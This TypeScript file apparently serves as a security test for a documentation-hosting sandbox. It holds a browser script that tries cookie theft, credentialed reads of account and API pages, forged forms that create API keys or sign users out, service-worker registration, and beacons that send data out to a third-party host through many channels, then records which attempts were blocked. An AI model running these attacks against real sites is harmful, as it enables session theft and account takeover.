/** What malicious-docs.ts runs; `window.targets` says against whom. Every attempt is over within some seconds. */
export const attempts = String.raw`(() => {
const { thirdParty, otherScript, privateScript, registry = location.origin } = window.targets;
const report = {};
const refused = [];
document.addEventListener("securitypolicyviolation", (event) => refused.push(event));

class Blocked extends Error {}
const blocked = (why) => { throw new Blocked(why); };
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const short = (what) => String(what).replace(/\s+/g, " ").slice(0, 120);
const element = (name, attributes) => Object.assign(document.createElement(name), attributes);

async function attempt(name, run) {
  const late = pause(5000).then(() => blocked("nothing happened"));
  try {
    report[name] = "GOT: " + short(await Promise.race([run(), late]));
  } catch (error) {
    report[name] = "blocked: " + short(error instanceof Blocked ? error.message : error);
  }
  document.getElementById("report").textContent = JSON.stringify(report, null, 1);
}

// Sent, unless the policy of the page says that it was not. Of frames and forms it names the host only.
async function sent(address, act, directive) {
  await act();
  await pause(800);
  const it = refused.find(({ blockedURI, effectiveDirective }) =>
    blockedURI === address || (effectiveDirective === directive && address.startsWith(blockedURI || "-")));
  if (it) blocked(it.effectiveDirective);
  return "sent " + address;
}

async function frame(address) {
  const it = element("iframe", { src: address });
  const loaded = new Promise((done) => { it.onload = done; });
  document.body.append(it);
  await loaded;
  const inside = it.contentDocument;
  return inside && inside.body ? inside.body.textContent : blocked("no access to what is in the frame");
}

function xhr(address) {
  return new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open("GET", address);
    request.withCredentials = true;
    request.onload = () => (request.status === 200 ? done(request.responseText) : fail("status " + request.status));
    request.onerror = () => fail("network error");
    request.send();
  });
}

async function read(address, options) {
  const response = await fetch(address, { credentials: "include", ...options });
  return response.ok ? response.text() : blocked("status " + response.status);
}

function loaded(it) {
  return new Promise((done, fail) => {
    it.onload = () => done(it.localName + " was loaded");
    it.onerror = () => fail("error event");
    document.head.append(it);
  });
}

// Into a frame each, or the next one takes its place.
function post(path, fields, target = "frame" + path.replaceAll("/", "-")) {
  const action = registry + path + "?" + target;
  return sent(action, async () => {
    const form = element("form", { method: "post", action, target });
    for (const [name, value] of Object.entries(fields)) form.append(element("input", { name, value }));
    document.body.append(form);
    if (target !== "_blank") document.body.append(element("iframe", { name: target }));
    form.submit();
  }, "form-action");
}

function indexed() {
  return new Promise((done, fail) => {
    const request = indexedDB.open("stolen");
    request.onsuccess = () => done("a database");
    request.onerror = () => fail(request.error);
  });
}

const beacon = (kind, act, directive) => [kind + " to another host", () => {
  const address = thirdParty + "/" + kind.replace(/\W/g, "-");
  return sent(address, () => act(address), directive);
}];
const add = (it) => { document.body.append(it); };

const all = [
  ["document.cookie", async () => document.cookie || blocked("empty")],
  ["cookieStore", async () => (await cookieStore.getAll()).map((it) => it.name).join() || blocked("empty")],
  ["setting a cookie", async () => {
    document.cookie = "hexedge=fixed; path=/";
    return document.cookie.includes("fixed") ? "it is set" : blocked("it is not set");
  }],
  ["fetch of the API", () => read(registry + "/api/users/me")],
  ["fetch of the account", () => read(registry + "/account")],
  ["fetch of the start page", () => read(registry + "/")],
  ["fetch with POST", () => read(registry + "/account/keys", { method: "POST", body: new URLSearchParams({ name: "x" }) })],
  ["XMLHttpRequest of the API", () => xhr(registry + "/api/users/me")],
  ["XMLHttpRequest of the account", () => xhr(registry + "/account")],
  ["frame of the start page", () => frame(registry + "/")],
  ["frame of the account", () => frame(registry + "/account")],
  ["frame of another host", () => sent(thirdParty + "/frame", () => add(element("iframe", { src: thirdParty + "/frame" })), "frame-src")],
  ["window without a click", async () => {
    const opened = window.open(registry + "/account") || blocked("no window");
    await pause(1500);
    return opened.document.body.textContent;
  }],
  ["form for a key", () => post("/account/keys", { name: "stolen", permissions: "api" })],
  ["form that signs out", () => post("/sign-out", {})],
  ["service worker", async () => (await navigator.serviceWorker.register("sw.js")).scope],
  ["service worker of a blob", async () => {
    const address = URL.createObjectURL(new Blob(["0"], { type: "text/javascript" }));
    return (await navigator.serviceWorker.register(address)).scope;
  }],
  ["localStorage", async () => {
    localStorage.setItem("stolen", "yes");
    return JSON.stringify(Object.entries(localStorage));
  }],
  ["sessionStorage", async () => {
    sessionStorage.setItem("stolen", "yes");
    return JSON.stringify(Object.entries(sessionStorage));
  }],
  ["indexedDB", indexed],
  ["caches", async () => (await caches.open("stolen"), "a cache")],
  ["import of other docs", async () => Object.keys(await import(new URL(otherScript, location.href))).join() || "a module"],
  ["script of other docs", () => loaded(element("script", { src: otherScript }))],
  ["script of private docs", () => loaded(element("script", { src: privateScript }))],
  ["fetch of private docs", () => read(privateScript)],
  ["stylesheet of the registry", () => loaded(element("link", { rel: "stylesheet", href: registry + "/style.css" }))],
  ["fetch of another host", () => read(thirdParty + "/fetch", { credentials: "omit" })],
  beacon("no-cors fetch", (to) => fetch(to, { mode: "no-cors" }).catch(() => {})),
  beacon("image", (to) => { new Image().src = to; }),
  beacon("script", (to) => add(element("script", { src: to }))),
  beacon("style", (to) => add(element("link", { rel: "stylesheet", href: to }))),
  beacon("background", (to) => { document.body.style.backgroundImage = "url(" + to + ")"; }),
  beacon("font", (to) => new FontFace("x", "url(" + to + ")").load().catch(() => {})),
  beacon("sendBeacon", (to) => { navigator.sendBeacon(to, "x"); }),
  beacon("EventSource", (to) => { new EventSource(to); }),
  beacon("prefetch", (to) => add(element("link", { rel: "prefetch", href: to }))),
  beacon("preload", (to) => add(element("link", { rel: "preload", as: "image", href: to }))),
  beacon("video", (to) => add(element("video", { src: to }))),
  beacon("object", (to) => add(element("object", { data: to })), "object-src"),
  ["WebSocket to another host", () => {
    const address = thirdParty.replace("http", "ws") + "/socket";
    return sent(address, () => { try { new WebSocket(address); } catch (error) { blocked(error); } });
  }],
  ["worker of a blob", () => new Promise((done, fail) => {
    const address = URL.createObjectURL(new Blob(["postMessage('it runs')"], { type: "text/javascript" }));
    const worker = new Worker(address);
    worker.onmessage = ({ data }) => done(data);
    worker.onerror = () => fail("error event");
  })],
  ["opener", async () => (opener ? short(opener.document.body.textContent) : blocked("there is none"))],
  ["message to whoever opened it", async () => {
    const others = [opener, parent, top].filter((it) => it && it !== window);
    for (const it of others) it.postMessage({ stolen: location.href }, "*");
    return others.length > 0 ? others.length + " listeners" : blocked("there is nobody");
  }],
  ["document.domain", async () => { document.domain = location.hostname; return document.domain; }],
  ["base", async () => {
    const base = element("base", { href: thirdParty + "/" });
    document.head.append(base);
    const now = document.baseURI;
    base.remove();
    return now.startsWith(thirdParty) ? now : blocked(now);
  }],
  ["address and referrer", async () => (/~|key|token/.test(location.href + document.referrer)
    ? location.href + " " + document.referrer : blocked("nothing secret in them"))],
];

document.getElementById("click").addEventListener("click", async () => {
  let opened = null;
  await attempt("window after a click", async () => {
    opened = window.open(registry + "/account", "stolen") || blocked("no window");
    await pause(1500);
    return opened.document.body.textContent;
  });
  await attempt("moving the window that was opened", async () => {
    if (!opened || opened.closed) blocked("no hold on it");
    opened.location = thirdParty + "/moved";
    return "moved";
  });
  await attempt("form for a key in a new window", () => post("/account/keys", { name: "stolen" }, "_blank"));
  await attempt("ping to another host", () => sent(thirdParty + "/ping", () => {
    const link = element("a", { href: "#x", ping: thirdParty + "/ping" });
    add(link);
    link.click();
  }));
  document.title = "clicked";
});

Promise.all(all.map(([name, run]) => attempt(name, async () => run()))).then(() => { document.title = "done"; });
})();
`;
